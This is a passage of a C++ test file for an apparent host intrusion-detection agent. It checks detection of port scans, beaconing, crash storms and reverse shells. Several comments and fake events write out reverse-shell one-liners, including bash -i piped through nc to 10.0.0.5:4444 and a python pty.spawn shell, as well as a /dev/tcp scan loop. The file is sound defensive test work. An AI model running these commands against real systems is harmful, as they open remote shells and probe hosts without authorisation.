  // Children of an unseen parent share a tree named after it.
  apply(test::make_fork(77, 78));
  apply(test::make_fork(77, 79));
  EXPECT_EQ(t.tree_of(78), 77U);
  EXPECT_EQ(t.tree_of(79), 77U);
}

void fake_stat(const fs::path& root, std::uint32_t pid, std::uint32_t ppid,
               const std::string& exe) {
  const auto dir = root / std::to_string(pid);
  fs::create_directories(dir / "fd");
  std::ofstream(dir / "stat") << pid << " (x) S " << ppid
                              << " 1 1 0 -1 4194560 100 0 0 0 0 0 0 0 20 0 1 0 12345 1000 100\n";
  std::ofstream(dir / "status") << "Uid:\t0\t0\t0\t0\n";
  if (!exe.empty()) {
    fs::create_symlink(exe, dir / "exe");
  }
}

TEST(ProcessTree, SeededTreesStopBelowLoginServices) {
  test::TempDir proc;
  fake_stat(proc.path(), 1, 0, "/usr/lib/systemd/systemd");
  fake_stat(proc.path(), 300, 1, "/usr/sbin/sshd");
  fake_stat(proc.path(), 310, 300, "/usr/sbin/sshd");
  fake_stat(proc.path(), 320, 310, "/usr/bin/bash");
  fake_stat(proc.path(), 330, 320, "/usr/bin/python3");
  fake_stat(proc.path(), 340, 330, "/usr/bin/sleep");
  fake_stat(proc.path(), 400, 1, "/usr/sbin/nginx");
  fake_stat(proc.path(), 401, 400, "/usr/sbin/nginx");
  ProcessTable t(100, proc.path());
  ASSERT_OK(t.seed());
  EXPECT_EQ(t.tree_of(340), 320U) << "the login shell below sshd roots the session";
  EXPECT_EQ(t.tree_of(330), 320U);
  EXPECT_EQ(t.tree_of(310), 310U) << "sshd's session process is a child of an anchor";
  EXPECT_EQ(t.tree_of(401), 400U) << "a service and its workers";
  EXPECT_EQ(t.tree_of(1), 1U);
}

// ------------------------------------------------------------------ stdio

// A fake /proc/PID/fd/N pointing at a real object: stat() follows the link.
void fd_link(const fs::path& proc, std::uint32_t pid, int fd, const fs::path& target) {
  fs::create_directories(proc / std::to_string(pid) / "fd");
  fs::create_symlink(target, proc / std::to_string(pid) / "fd" / std::to_string(fd));
}

// A pty pair; the slave's path is where a shell's stdio would point.
struct Pty {
  Pty() {
    master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master >= 0 && grantpt(master) == 0 && unlockpt(master) == 0) {
      slave = ptsname(master);
    }
  }
  ~Pty() {
    if (master >= 0) close(master);
  }
  int master = -1;
  std::string slave;
};

// A bound unix socket file: stat() says socket.
fs::path socket_file(const fs::path& dir) {
  const auto path = dir / "sock";
  const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  std::strncpy(a.sun_path, path.c_str(), sizeof(a.sun_path) - 1);
  EXPECT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
  close(fd);
  return path;
}

TEST(ProcessTableStdio, PipesPtysAndSocketsAreToldApartAndPtyHoldersFound) {
  test::TempDir dir;
  const auto proc = dir.path() / "proc";
  const auto fifo_a = dir.path() / "a";
  const auto fifo_b = dir.path() / "b";
  ASSERT_EQ(mkfifo(fifo_a.c_str(), 0600), 0);
  ASSERT_EQ(mkfifo(fifo_b.c_str(), 0600), 0);
  Pty pty;
  ASSERT_FALSE(pty.slave.empty()) << "no pty";
  const auto sock = socket_file(dir.path());
  std::ofstream(dir.path() / "file") << "x";
  fd_link(proc, 50, 0, fifo_a);
  fd_link(proc, 50, 1, fifo_b);
  fd_link(proc, 50, 2, dir.path() / "file");
  fd_link(proc, 51, 0, fifo_b);
  ProcessTable t(100, proc);
  const Stdio io = t.stdio(50);
  EXPECT_EQ(io.fd[0].kind, FdKind::kPipe);
  EXPECT_EQ(io.fd[1].kind, FdKind::kPipe);
  EXPECT_NE(io.fd[0].id, io.fd[1].id);
  EXPECT_EQ(io.fd[2].kind, FdKind::kOther);
  EXPECT_EQ(t.stdio(51).fd[0].id, io.fd[1].id) << "both ends of one pipe have one id";
  EXPECT_EQ(t.stdio(99).fd[0].kind, FdKind::kNone) << "gone";

  // bash 62 on the pty, under `sh -c bash` 61 on the same pty, under the
  // holder 60 whose stdio is a socket (python's pty.spawn after dup2).
  for (int fd = 0; fd < 3; ++fd) {
    fd_link(proc, 62, fd, pty.slave);
    fd_link(proc, 61, fd, pty.slave);
    fd_link(proc, 60, fd, sock);
  }
  auto apply = [&](auto rec) {
    Event e;
    Decoder d(0);
    ASSERT_OK(d.decode(test::bytes_of(rec), e));
    t.apply(e);
  };
  apply(test::make_fork(60, 61));
  apply(test::make_fork(61, 62));
  const auto w = t.stdio_wiring(62);
  EXPECT_EQ(w.own.fd[1].kind, FdKind::kPty);
  EXPECT_EQ(w.holder, 60U) << "the passenger on the same pty is skipped";
  EXPECT_EQ(w.holder_io.fd[0].kind, FdKind::kSocket);
  EXPECT_EQ(t.stdio_wiring(50).holder, 0U) << "no pty, no holder";
  EXPECT_EQ(ProcessTable(10, "").stdio(50).fd[0].kind, FdKind::kNone);
}

// ------------------------------------------------------------------ in the pipeline

std::vector<std::string> lines_with(const fs::path& p, std::string_view needle) {
  std::ifstream in(p);
  std::vector<std::string> out;
  std::string line;
  while (std::getline(in, line)) {
    if (line.find(needle) != std::string::npos) out.push_back(line);
  }
  return out;
}

vigil_sock make_sock(std::uint32_t pid, std::uint32_t op, std::int32_t ret, std::uint8_t last_octet,
                     std::uint16_t rport, std::uint64_t ts_ns) {
  vigil_sock s{};
  test::fill_hdr(s.hdr, VIGIL_EV_SOCK, sizeof(s), pid);
  s.hdr.ts_ns = ts_ns;
  s.op = op;
  s.ret = ret;
  s.family = AF_INET;
  s.proto = IPPROTO_TCP;
  s.rport = rport;
  s.raddr[0] = 10;
  s.raddr[3] = last_octet;
  return s;
}

class SpreadPipeline : public ::testing::Test {
 protected:
  void SetUp() override { open(""); }
  void open(const fs::path& proc) {
    table_ = std::make_unique<ProcessTable>(1000, proc);
    p_ = std::make_unique<Pipeline>("h", *table_, 0, baseline_model());
    p_->set_baseline_config({.warmup_s = 0});
    auto sink = LineSink::open((dir_.path() / "alerts").string());
    ASSERT_OK(sink);
    p_->set_alerts(std::move(*sink), OutputFormat::kJson, 1);
  }
  template <typename Rec>
  void feed(Rec rec, std::uint64_t ts_ns) {
    rec.hdr.ts_ns = ts_ns;
    p_->on_record(test::bytes_of(rec));
    p_->on_batch_end();
  }
  // `parent` forks `child`, which execs `exe`.
  void spawn(std::uint32_t parent, std::uint32_t child, const char* exe,
             const std::vector<std::string>& args, std::uint64_t ts_ns) {
    feed(test::make_fork(parent, child), ts_ns);
    auto x = test::make_exec(child, exe, args);
    x.hdr.ppid = parent;
    feed(x, ts_ns + 1000);
  }
  std::vector<std::string> alerts(std::string_view id) {
    return lines_with(dir_.path() / "alerts", "\"id\":\"" + std::string(id) + "\"");
  }
  test::TempDir dir_;
  std::unique_ptr<ProcessTable> table_;
  std::unique_ptr<Pipeline> p_;
};

constexpr std::uint64_t kSec = 1'000'000'000ULL;

TEST_F(SpreadPipeline, ConnectScanOnePortPerProcessIsOneFinding) {
  // for p in ...; do bash -c "echo > /dev/tcp/10.0.0.9/$p"; done
  for (std::uint32_t i = 0; i < 40; ++i) {
    const std::uint64_t t = 100 * kSec + i * 100'000'000ULL;
    spawn(100, 1000 + i, "/usr/bin/bash", {"bash", "-c", "echo > /dev/tcp/..."}, t);
    feed(make_sock(1000 + i, VIGIL_SOCK_CONNECT, -ECONNREFUSED, 9,
                   static_cast<std::uint16_t>(2000 + i), 0),
         t + 2000);
    feed(test::make_exit(1000 + i, 1), t + 3000);
  }
  const auto hits = alerts("connect-scan");
  ASSERT_EQ(hits.size(), 1U) << "one finding, not one per process";
  EXPECT_NE(hits[0].find("\"pid\":1019"), std::string::npos) << "the 20th port's process";
}

TEST_F(SpreadPipeline, BeaconWithANewRenamedProcessPerCallback) {
  // Each callback a new process with a new name (/tmp/cb-N), every 2 s.
  for (std::uint32_t i = 0; i < 10; ++i) {
    const std::uint64_t t = 100 * kSec + i * 2 * kSec + (i % 2) * 150'000'000ULL;
    const std::string exe = "/tmp/cb-" + std::to_string(i);
    spawn(100, 2000 + i, exe.c_str(), {"cb"}, t);
    feed(make_sock(2000 + i, VIGIL_SOCK_CONNECT, 0, 7, 443, 0), t + 2000);
    feed(test::make_exit(2000 + i, 0), t + 3000);
  }
  const auto hits = alerts("beaconing");
  ASSERT_EQ(hits.size(), 1U) << "once per unit and destination";
}

TEST_F(SpreadPipeline, CrashesOfCopiesOfABinaryAreAStorm) {
  for (std::uint32_t i = 0; i < 25; ++i) {
    const std::uint64_t t = 100 * kSec + i * 50'000'000ULL;
    const std::string exe = "/tmp/victim-" + std::to_string(i);
    spawn(100, 3000 + i, exe.c_str(), {"victim"}, t);
    auto x = test::make_exit(3000 + i, 0);
    x.signal = SIGSEGV;
    feed(x, t + 2000);
  }
  const auto hits = alerts("crash-storm");
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_NE(hits[0].find("\"type\":\"exit\""), std::string::npos) << hits[0];
}

// cat f | bash -i 2>&1 | nc 10.0.0.5 4444 > f, with /proc faked around real FIFOs.
class RelayPipeline : public SpreadPipeline {
 protected:
  void SetUp() override {
    proc_ = dir_.path() / "proc";
    ASSERT_EQ(mkfifo((dir_.path() / "in").c_str(), 0600), 0);
    ASSERT_EQ(mkfifo((dir_.path() / "out").c_str(), 0600), 0);
    std::ofstream(dir_.path() / "log") << "";
    open(proc_);
  }
  // bash 51 reads `in`, writes `out` (or a file); nc 52 reads `out`.
  void wire(bool output_to_pipe) {
    const auto out = output_to_pipe ? dir_.path() / "out" : dir_.path() / "log";
    fd_link(proc_, 51, 0, dir_.path() / "in");
    fd_link(proc_, 51, 1, out);
    fd_link(proc_, 51, 2, out);
    fd_link(proc_, 52, 0, dir_.path() / "out");
    fd_link(proc_, 52, 1, dir_.path() / "in");
  }
  fs::path proc_;
};

TEST_F(RelayPipeline, RelayConnectingAfterTheShellStarts) {
  wire(true);
  spawn(50, 51, "/usr/bin/bash", {"bash", "-i"}, 100 * kSec);
  spawn(50, 52, "/usr/bin/nc", {"nc", "10.0.0.5", "4444"}, 100 * kSec + 10'000);
  EXPECT_TRUE(alerts("reverse-shell").empty()) << "nothing connected yet";
  feed(make_sock(52, VIGIL_SOCK_CONNECT, -EINPROGRESS, 5, 4444, 0), 100 * kSec + 50'000);
  const auto hits = alerts("reverse-shell");
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_NE(hits[0].find("\"type\":\"connect\""), std::string::npos) << hits[0];
}

TEST_F(RelayPipeline, RelayConnectedBeforeTheShellStarts) {
  wire(true);
  spawn(50, 52, "/usr/bin/nc", {"nc", "10.0.0.5", "4444"}, 100 * kSec);
  feed(make_sock(52, VIGIL_SOCK_CONNECT, 0, 5, 4444, 0), 100 * kSec + 5'000);
  spawn(50, 51, "/usr/bin/bash", {"bash", "-i"}, 100 * kSec + 10'000);
  const auto hits = alerts("reverse-shell");
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_NE(hits[0].find("\"type\":\"exec\""), std::string::npos) << hits[0];
}

TEST_F(RelayPipeline, OutputToAFileIsNoRelayedShell) {
  // nc HOST PORT | bash > log: remote commands, but nothing goes back.
  wire(false);
  spawn(50, 52, "/usr/bin/nc", {"nc", "10.0.0.5", "4444"}, 100 * kSec);
  feed(make_sock(52, VIGIL_SOCK_CONNECT, 0, 5, 4444, 0), 100 * kSec + 5'000);
  spawn(50, 51, "/usr/bin/bash", {"bash"}, 100 * kSec + 10'000);
  feed(make_sock(52, VIGIL_SOCK_CONNECT, 0, 5, 4445, 0), 100 * kSec + 50'000);
  EXPECT_TRUE(alerts("reverse-shell").empty());
}

TEST_F(RelayPipeline, AShellWithACommandIsNoRelayedShell) {
  wire(true);
  spawn(50, 51, "/usr/bin/bash", {"bash", "-c", "make"}, 100 * kSec);
  spawn(50, 52, "/usr/bin/nc", {"nc", "10.0.0.5", "4444"}, 100 * kSec + 10'000);
  feed(make_sock(52, VIGIL_SOCK_CONNECT, 0, 5, 4444, 0), 100 * kSec + 50'000);
  EXPECT_TRUE(alerts("reverse-shell").empty());
}

TEST_F(RelayPipeline, ShellOnAPtyHeldByAConnectedProcess) {
  // python3 -c 'socket; connect; pty.spawn("/bin/bash")': python 60 connects,
  // bash 61 runs on a pty python holds.
  Pty pty;
  ASSERT_FALSE(pty.slave.empty());
  for (int fd = 0; fd < 3; ++fd) fd_link(proc_, 61, fd, pty.slave);
  spawn(59, 60, "/usr/bin/python3", {"python3", "-c", "import pty"}, 100 * kSec);
  feed(make_sock(60, VIGIL_SOCK_CONNECT, 0, 5, 4444, 0), 100 * kSec + 5'000);
  spawn(60, 61, "/usr/bin/bash", {"/bin/bash"}, 100 * kSec + 10'000);
  ASSERT_EQ(alerts("reverse-shell").size(), 1U);
  // A shell on a pty held by a login service (sshd) is a login, whatever sshd did.
  for (int fd = 0; fd < 3; ++fd) fd_link(proc_, 71, fd, pty.slave);
  spawn(69, 70, "/usr/sbin/sshd", {"sshd"}, 200 * kSec);
  feed(make_sock(70, VIGIL_SOCK_CONNECT, 0, 5, 389, 0), 200 * kSec + 5'000);
  spawn(70, 71, "/usr/bin/bash", {"-bash"}, 200 * kSec + 10'000);
  EXPECT_EQ(alerts("reverse-shell").size(), 1U);
}

}  // namespace
}  // namespace vigil::agent

namespace vigil::agent {
namespace {

TEST_F(SpreadPipeline, AsynchronousConnectFailuresCountTowardsAScan) {
  // Non-blocking connects (nc -z, nmap -sT): connect says EINPROGRESS, the
  // refusal comes later as connect_failed with no error code of its own.
  for (std::uint32_t i = 0; i < 25; ++i) {
    const std::uint64_t t = 100 * kSec + i * 10'000'000ULL;
    feed(make_sock(4000, VIGIL_SOCK_CONNECT, -EINPROGRESS, 3, static_cast<std::uint16_t>(7000 + i),
                   0),
         t);
    feed(make_sock(4000, VIGIL_SOCK_CONNECT_FAILED, 0, 3, static_cast<std::uint16_t>(7000 + i), 0),
         t + 1000);
  }
  EXPECT_EQ(alerts("connect-scan").size(), 1U);
}

}  // namespace
}  // namespace vigil::agent
